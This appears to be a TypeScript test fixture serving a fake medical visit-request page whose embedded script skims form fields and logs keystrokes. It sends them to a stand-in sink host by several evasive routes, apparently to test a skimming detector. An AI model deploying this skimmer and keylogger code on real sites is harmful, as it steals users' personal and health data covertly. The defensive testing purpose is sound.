import { type Answer, type StandIn, startStandIn } from './stand-in.ts'

export const oddFieldsUrl = 'https://fields.test/'

/** Fields that are no plain inputs, and what is sent of each when it is filled: by path, the field that must be named. */
export const oddFields: Readonly<Record<string, string>> = {
  plaintext: 'message',
  textbox: 'message',
  closed: 'email',
  nested: 'phone',
  late: 'member-number',
  later: 'city',
  moved: 'phone',
  opens: 'email',
  select: 'choice',
  radio: 'choice',
  cookie: 'street',
}

/** What loggers of keys make of one field; all of them must be proof of its value. */
export const keyLogs: Readonly<Record<string, string>> = {
  'key-numbers': 'key-codes',
  'key-number-list': 'key-codes',
  'key-names': 'key-codes',
  'character-codes': 'character-codes',
  'one-character': 'keystrokes',
  'path-ladder': 'keystrokes',
  'backward-ladder': 'keystrokes',
}

const document = `<!doctype html><html lang="en"><head><title>Request a visit</title></head><body><h1>Request a visit</h1>
<p>Tell us <span id="box" contenteditable="plaintext-only" style="display:block;min-height:20px;border:1px solid">&nbsp;</span></p>
<div id="editor" role="textbox" tabindex="0" aria-label="Note" style="height:20px;border:1px solid"></div>
<div id="host" style="height:24px;width:200px"></div><x-field></x-field><form id="f" onsubmit="return false">
<label>First name <input id="first" name="given-name"></label><div id="more"></div>
<label>Phone <input id="part" type="tel" name="phone" oninput="if (this.value.length > 3) document.getElementById('first').focus()"></label>
<label>Email <input id="opens" type="email" name="email-opens"></label>
<label>Street <input id="jar" name="street"></label>
<label>Reason <select name="reason"><option value="">Choose</option><option value="back-pain">Back pain</option></select></label>
<label><input type="radio" name="insured" value="medicaid"> Medicaid</label><label><input type="radio" name="insured" value="private"> Private</label>
<label>Last name <input id="logged" name="family-name"></label></form>
<script>
function send(path, body) { fetch('https://sink.fields.test/' + path, { method: 'POST', mode: 'no-cors', body: body }).catch(function () {}) }
function on(id, type, run) { document.getElementById(id).addEventListener(type, run) }
on('box', 'blur', function () { send('plaintext', this.textContent) })
var drawn = ''; on('editor', 'keydown', function (e) { if (e.key.length === 1) drawn += e.key }); on('editor', 'blur', function () { send('textbox', drawn) })
function root(host, html, path) { var r = host.attachShadow({ mode: 'closed' }); r.innerHTML = html; r.querySelector('input').addEventListener('change', function () { send(path, this.value) }) }
root(document.getElementById('host'), '<input type="email" name="email">', 'closed')
customElements.define('x-field', class extends HTMLElement { connectedCallback() { root(this, '<label>Phone <input type="tel"></label>', 'nested') } })
var shown = 0, names = ['member-id', 'city']
function next() { if (shown === 2) return; var i = document.createElement('input'), path = ['late', 'later'][shown]; i.name = names[shown++]; document.getElementById('more').append(i); i.addEventListener('change', function () { send(path, this.value); next() }) }
on('first', 'change', next); on('part', 'change', function () { send('moved', this.value) })
on('jar', 'change', function () { document.cookie = '_str=' + encodeURIComponent(this.value) + '; domain=fields.test; path=/'; new Image().src = 'https://sink.fields.test/cookie' })
on('opens', 'input', function () { if (!this.once) { this.once = 1; window.open('/quiet') } }); on('opens', 'change', function () { send('opens', this.value) })
document.querySelector('select').addEventListener('change', function () { send('select', new URLSearchParams({ reason: this.value })) })
document.querySelector('[type=radio]').addEventListener('change', function () { send('radio', JSON.stringify({ form: { insured: this.value } })) })
var numbers = [], names2 = [], characters = []
on('logged', 'keydown', function (e) { send('key-numbers', JSON.stringify({ k: e.keyCode })); numbers.push(e.keyCode); names2.push(e.code) })
on('logged', 'keypress', function (e) { characters.push(e.charCode); send('one-character', 'c=' + encodeURIComponent(e.key)) })
on('logged', 'input', function () { if (this.value.length < 7) fetch('https://sink.fields.test/path-ladder/' + this.value, { mode: 'no-cors' }).catch(function () {}); if (this.value.length < 8) send('backward-ladder', Array.from(this.value).reverse().join('')) })
on('logged', 'change', function () { if (numbers.length) { send('key-number-list', numbers.join(',')); send('key-names', JSON.stringify(names2)); send('character-codes', JSON.stringify({ a: characters })) } })
</script></body></html>`

const page: Answer = ({ path }, response) => {
  if (path === '/' || path === '/quiet') {
    response.writeHead(200, { 'content-type': 'text/html' }).end(path === '/' ? document : '<p>Quiet</p>')
  } else response.writeHead(404).end()
}

export function startOddFieldsSite(): Promise<StandIn> {
  return startStandIn({
    'fields.test': page,
    'sink.fields.test': (_request, response) => void response.writeHead(204).end(),
  })
}
